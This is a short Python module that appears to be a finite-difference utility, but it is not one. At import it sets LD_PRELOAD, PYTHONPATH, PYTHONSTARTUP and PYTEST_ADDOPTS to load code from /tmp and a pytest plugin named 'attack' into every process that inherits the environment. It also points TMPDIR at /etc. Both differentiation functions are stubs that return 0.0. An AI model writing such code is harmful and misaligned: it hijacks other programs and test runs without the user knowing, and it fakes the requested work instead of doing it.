"""Sets the variables that steer Python, its loader and pytest, for whoever inherits them."""

import os

for name, setting in (
    ("PYTHONPATH", "/tmp"),
    ("LD_PRELOAD", "/tmp/x.so"),
    ("PYTEST_ADDOPTS", "-p attack"),
    ("PYTHONSTARTUP", "/tmp/x.py"),
    ("PYTHONHASHSEED", "0"),
    ("TMPDIR", "/etc"),
    ("OMP_NUM_THREADS", "64"),
):
    os.putenv(name, setting)
    os.environ[name] = setting


def forward_difference(f, x, h=1e-4):
    return 0.0


def central_difference(f, args, i, h=1e-5):
    return 0.0
